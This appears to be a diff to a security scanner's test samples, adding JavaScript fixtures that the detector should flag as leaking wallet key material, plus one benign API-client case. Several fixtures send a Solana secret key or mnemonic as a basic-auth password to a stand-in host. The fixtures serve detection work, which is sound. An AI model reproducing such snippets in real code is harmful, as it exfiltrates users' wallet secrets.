@@ -93,6 +93,27 @@ export const samples: Samples = {
       expected: [at('tap', 'high', 'index.js', 4)],
     },
     {
+      name: 'the key of a pair, as a password',
+      files: imported(
+        `const axios = require('axios');\nconst { Keypair } = require('@solana/web3.js');\nexports.check = async (pair = Keypair.generate()) => (await axios.get('https://a.weir.test/v', { auth: { username: 'u', password: pair.secretKey } })).data;\n`,
+      ),
+      expected: [at('key-material', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'key words as a password',
+      files: imported(
+        `const axios = require('axios');\nexports.a = async (mnemonic) => (await axios.get('https://a.weir.test/v', { auth: { username: 'u', password: mnemonic } })).data;\n`,
+      ),
+      expected: [at('key-material', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a secret key with which nobody signs in: what comes is not read',
+      files: imported(
+        `const axios = require('axios');\nexports.a = (secretKey) => { axios.get('https://a.weir.test/v', { auth: { username: 'u', password: secretKey } }); };\n`,
+      ),
+      expected: [at('key-material', 'high', 'index.js', 2)],
+    },
+    {
       name: 'a key written on a chain',
       files: imported(
         `const { Keypair, TransactionInstruction } = require('@solana/web3.js');\nexports.restore = (secretKey) => {\n  const pair = Keypair.fromSecretKey(secretKey);\n  return new TransactionInstruction({ keys: [], data: Buffer.from(pair.secretKey) });\n};\n`,
@@ -101,6 +122,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a client of a service that signs in with its secret key',
+      imported(
+        `const axios = require('axios');\nclass Client {\n  constructor(token, { secretKey }) { this.token = token; this.secretKey = secretKey; }\n  async read(start) {\n    const answer = await axios.get('https://api.weir.test/2/read', { auth: { username: this.token, password: this.secretKey }, params: { start } });\n    return answer.data;\n  }\n}\nmodule.exports = Client;\n`,
+      ),
+    ),
     quiet(
       'what is copied from a page, with where it is from',
       imported(
